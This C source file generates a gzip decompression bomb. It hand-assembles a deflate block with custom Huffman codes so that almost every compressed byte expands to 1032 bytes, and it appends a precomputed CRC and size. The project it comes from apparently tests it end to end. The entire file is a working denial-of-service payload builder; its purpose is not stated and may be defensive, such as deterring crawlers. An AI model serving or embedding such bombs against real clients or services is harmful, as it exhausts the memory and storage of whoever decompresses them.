#include "bomb.h"

#include <stdint.h>

/* One deflate block with codes of its own (RFC 1951, 3.2.7): a literal 'x', then "the last byte, 258 times more" over
 * and over. That pair of length and distance is what nearly all of the block consists of, so it gets the shortest code
 * there is, one bit each and both 0: the bulk is zero bytes, each of which unpacks to 1032 bytes. */
enum {
	REPEAT_BYTES = 258,
	REPEATS = (BOMB_UNPACKED_BYTES - 1) / REPEAT_BYTES,
	REPEATS_PER_BYTE = 4,
	CRC_32 = 0x33b5a4ba,                /* of the unpacked bytes; tests/e2e unpacks them all */
};
_Static_assert(REPEATS * REPEAT_BYTES + 1 == BOMB_UNPACKED_BYTES && REPEATS % REPEATS_PER_BYTE == 0, "whole bytes");

struct bits {
	struct buf *out;
	uint32_t held;
	int count;
};

/* Lowest bit first, as deflate packs numbers; codes of more than one bit are given reversed. */
static void put(struct bits *bits, uint32_t value, int count)
{
	bits->held |= value << bits->count;
	for (bits->count += count; bits->count >= 8; bits->count -= 8) {
		buf_add(bits->out, &(char){ (char)(bits->held & 0xff) }, 1);
		bits->held >>= 8;
	}
}

/* Among the code lengths: 18 (a run of zeros) has code 0, length 1 has code 10, length 2 has code 11. */
static void put_zeros(struct bits *bits, uint32_t count)
{
	put(bits, 0, 1);
	put(bits, count - 11, 7);
}

static void put_codes(struct bits *bits)
{
	static const uint8_t lengths_of_lengths[18] = { [2] = 1 /* 18 */, [15] = 2 /* 2 */, [17] = 2 /* 1 */ };

	put(bits, 286 - 257, 5);            /* literals and lengths up to 285 */
	put(bits, 0, 5);                    /* one distance */
	put(bits, 18 - 4, 4);
	for (int i = 0; i < 18; i++)
		put(bits, lengths_of_lengths[i], 3);
	put_zeros(bits, 120);
	put(bits, 3, 2);                    /* 'x': 2 bits */
	put_zeros(bits, 135);
	put(bits, 3, 2);                    /* 256, the end: 2 bits */
	put_zeros(bits, 28);
	put(bits, 1, 2);                    /* 285, length 258: 1 bit */
	put(bits, 1, 2);                    /* distance 1: 1 bit */
}

static void put_le32(struct bits *bits, uint32_t value)
{
	put(bits, value & 0xffff, 16);
	put(bits, value >> 16, 16);
}

void bomb_add(struct buf *out)
{
	static const unsigned char gzip_head[10] = { 0x1f, 0x8b, 8, [9] = 255 };
	struct bits bits = { .out = out };

	buf_add(out, gzip_head, sizeof(gzip_head));
	put(&bits, 1, 1);                   /* the last block, */
	put(&bits, 2, 2);                   /* with its own codes */
	put_codes(&bits);
	put(&bits, 1, 2);                   /* 'x' */
	for (int i = 0; i < REPEATS / REPEATS_PER_BYTE; i++)
		put(&bits, 0, 8);
	put(&bits, 3, 2);                   /* the end */
	put(&bits, 0, (8 - bits.count) % 8);
	put_le32(&bits, CRC_32);
	put_le32(&bits, BOMB_UNPACKED_BYTES);
}
